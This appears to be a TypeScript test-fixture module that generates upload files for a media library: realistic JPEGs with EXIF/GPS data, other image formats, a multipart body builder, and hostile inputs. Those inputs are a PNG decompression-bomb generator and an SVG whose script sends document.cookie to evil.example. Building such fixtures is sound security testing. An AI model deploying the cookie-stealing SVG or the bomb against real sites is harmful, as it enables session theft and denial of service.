import { crc32, createDeflate } from "node:zlib";
import sharp from "sharp";

/**
 * Files an office manager (or an attacker) might upload: real pictures made by sharp, with
 * detail enough to weigh what photos weigh, and the bad inputs of the media library's issue.
 */

/** A photo-like JPEG: gradient, shapes and grain; with camera metadata (an orientation, GPS) if asked. */
export async function photo(
  width: number,
  height: number,
  options: { quality?: number; orientation?: number; gps?: boolean } = {},
): Promise<Buffer> {
  const scene = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <defs><linearGradient id="g" x1="0" y1="0" x2="1" y2="1">
      <stop offset="0" stop-color="#1a4066"/><stop offset="1" stop-color="#f28c28"/></linearGradient></defs>
    <rect width="100%" height="100%" fill="url(#g)"/>
    <circle cx="${width * 0.3}" cy="${height * 0.5}" r="${height * 0.3}" fill="#e3eefa" opacity="0.6"/>
  </svg>`;
  const grain = await sharp({
    create: {
      width,
      height,
      channels: 3,
      background: "#808080",
      noise: { type: "gaussian", mean: 128, sigma: 30 },
    },
  })
    .png({ compressionLevel: 1 })
    .toBuffer();
  let image = sharp(Buffer.from(scene))
    .composite([{ input: grain, blend: "soft-light" }])
    .jpeg({ quality: options.quality ?? 85 });
  if (options.orientation) image = image.withMetadata({ orientation: options.orientation });
  if (options.orientation || options.gps) {
    image = image.withExifMerge({
      IFD0: { Make: "Procelia test camera" },
      ...(options.gps
        ? { IFD3: { GPSLatitudeRef: "N", GPSLatitude: "50/1 27/1 0/1", GPSLongitudeRef: "E" } }
        : {}),
    });
  }
  return image.toBuffer();
}

/** A small picture of another type, each drawn differently so their hashes differ. */
export async function picture(
  format: "png" | "webp" | "avif" | "gif",
  width = 640,
  height = 480,
  hue = 0,
): Promise<Buffer> {
  const image = sharp({
    create: { width, height, channels: 3, background: { r: 30 + hue, g: 80, b: 140 } },
  });
  return image.toFormat(format).toBuffer();
}

const chunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};

/**
 * A real, valid 50,000 x 50,000 PNG (1-bit grey, all black): about 300 KB of file for 2.5 billion
 * pixels, 312 MB of rows once inflated. Made by deflating the rows as a stream, never held whole.
 */
export async function decompressionBomb(side = 50_000): Promise<Buffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.writeUInt8(1, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const row = Buffer.alloc(1 + Math.ceil(side / 8)); // filter byte 0, then the row's bits
  const deflate = createDeflate({ level: 9 });
  const compressed: Buffer[] = [];
  deflate.on("data", (data: Buffer) => compressed.push(data));
  const done = new Promise((resolve) => deflate.on("end", resolve));
  const rowsPerWrite = 256;
  const block = Buffer.concat(Array.from({ length: rowsPerWrite }, () => row));
  for (let written = 0; written < side; written += rowsPerWrite) {
    const rows = Math.min(rowsPerWrite, side - written);
    if (!deflate.write(rows === rowsPerWrite ? block : block.subarray(0, rows * row.length))) {
      await new Promise((resolve) => deflate.once("drain", resolve));
    }
  }
  deflate.end();
  await done;
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", header),
    chunk("IDAT", Buffer.concat(compressed)),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** An SVG drawing that runs a script and loads an outside picture. */
export const scriptedSvg = Buffer.from(
  `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100">
  <script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
  <image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
  <rect width="100" height="100" fill="#1a4066" onload="alert(1)"/>
</svg>`,
);

/** A multipart body as a browser's form sends it: one file part, then any text fields. */
export function multipart(
  file: { name: string; bytes: Buffer; type?: string } | undefined,
  fields: Record<string, string> = {},
): { body: Buffer; contentType: string } {
  const boundary = "----procelia-test-boundary-7MA4YWxkTrZu0gW";
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
      ),
    );
  }
  if (file) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${file.name}"\r\n` +
          `Content-Type: ${file.type ?? "image/jpeg"}\r\n\r\n`,
      ),
      file.bytes,
      Buffer.from("\r\n"),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}
